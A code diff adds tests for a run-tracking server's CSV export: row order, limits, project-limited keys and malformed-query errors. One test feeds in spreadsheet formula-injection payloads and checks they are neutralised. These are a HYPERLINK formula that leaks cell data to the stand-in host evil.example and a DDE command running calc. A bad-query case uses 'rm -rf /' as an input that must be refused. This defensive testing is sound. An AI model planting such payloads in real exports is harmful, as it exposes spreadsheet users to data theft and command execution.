@@ -6,6 +6,8 @@ all; a project-limited key counts and lists only its project."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import urllib.parse
 import uuid
@@ -238,3 +240,95 @@ def test_runs_stored_by_an_import_reach_event_subscribers_too(live):
         return event
 
     assert asyncio.run(scenario())["id"] == run_id
+
+
+def csv_of(server, auth, **query) -> tuple[int, list[list[str]] | object]:
+    """``GET runs.csv``: the status and the file's rows (or the error's body)."""
+    status, body = get(server, "runs.csv", auth, **query)
+    if status != 200:
+        return status, body
+    return status, list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
+
+
+def test_the_runs_table_downloads_as_csv_every_match_in_its_order_with_its_columns(live, counted):
+    tally, _ = counted
+    # Given 1,100 runs in project tally with alpha 0..1099 (more than a page of the store)
+    # When the table filtered to alpha >= 50 and sorted by alpha downloads as CSV with
+    # its columns: the name, alpha, the last and smallest accuracy, and a label
+    status, rows = csv_of(live, token_auth(live), project="tally", param="alpha>=50",
+                          sort="param:alpha",
+                          column=["field:name", "param:alpha", "metric:accuracy:last",
+                                  "metric:accuracy:min", "label:team", "field:status"])  # fmt: skip
+    # Then it has a heading line, then all 1,050 matches in that order, each with its values
+    assert status == 200, rows
+    assert rows[0] == ["run_id", "Run", "alpha", "accuracy", "accuracy (min)", "team", "Status"]
+    assert [r[0] for r in rows[1:]] == tally[50:]
+    assert rows[1][1:] == ["train a model", "50", "0.9", "0.9", "ml", "succeeded"]
+    assert rows[-1][2] == "1099"
+    # And a limit keeps the first runs only
+    status, rows = csv_of(live, token_auth(live), project="tally", sort="param:alpha",
+                          column="param:alpha", limit=3)  # fmt: skip
+    assert [r[1] for r in rows] == ["alpha", "0", "1", "2"]
+
+
+def test_a_project_limited_key_downloads_only_its_project(live, counted):
+    _, spare = counted
+    # Given a key limited to project spare
+    key = create_key(live, "spare-csv", project="spare")
+    auth = basic_auth("alice", key["key"])
+    # When it downloads the table with no project filter
+    status, rows = csv_of(live, auth, column="field:project")
+    # Then it gets project spare's 103 runs, nothing else
+    assert status == 200, rows
+    assert sorted(r[0] for r in rows[1:]) == sorted(spare)
+    assert {r[1] for r in rows[1:]} == {"spare"}
+    # And asking for another project is refused
+    assert csv_of(live, auth, project="tally", column="field:name")[0] == 403
+
+
+def test_a_value_a_spreadsheet_would_run_is_written_as_text(live):
+    # Given runs another user published whose parameter, label and description are
+    # spreadsheet formulas, and a negative number
+    auth = token_auth(live)
+    project = f"formula{uuid.uuid4().hex[:8]}"
+    rec = record(writes=[], reads=[], project=project,
+                 description='=HYPERLINK("http://evil.example/?"&A1,"open")',
+                 params={"cmd": "@SUM(1+1)*cmd|' /C calc'!A0", "lr": -0.5},
+                 labels={"note": "+1+2", "tab": "\tx"})  # fmt: skip
+    status, body = http("POST", live.url + "dotscience/api/runs", rec, auth)
+    assert status == 201, body
+    # When the table downloads as CSV
+    status, rows = csv_of(live, auth, project=project,
+                          column=["field:name", "param:cmd", "param:lr", "label:note",
+                                  "label:tab"])  # fmt: skip
+    # Then every formula starts with a quote (a spreadsheet shows it as text and runs
+    # nothing), and the number is left as it is
+    assert status == 200, rows
+    assert rows[1][1:] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "-0.5",
+        "'+1+2",
+        "'\tx",
+    ]
+
+
+@pytest.mark.parametrize(
+    "query, sentence",
+    [
+        ({"column": "colour"}, "expected <kind>:<key>"),
+        ({"column": "field:secret"}, "the fields are"),
+        ({"column": "script:rm -rf /"}, "the kinds are"),
+        ({"column": "metric:loss:median"}, "metric:<key>:<last|min|max>"),
+        ({"column": "param:"}, "expected <kind>:<key>"),
+        ({"column": "field:name", "limit": "0"}, "limit"),
+        ({"column": "field:name", "sort": "colour"}, "sort"),
+        ({"column": "field:name", "param": "alpha"}, "param filter"),
+    ],
+)
+def test_bad_csv_queries_are_a_400_with_one_sentence(live, query, sentence):
+    # Given a caller sending a malformed query to GET runs.csv
+    status, body = get(live, "runs.csv", token_auth(live), **query)
+    # Then it is a 400 naming what is wrong, before any of the file is written
+    assert status == 400, body
+    assert sentence in body["error"]
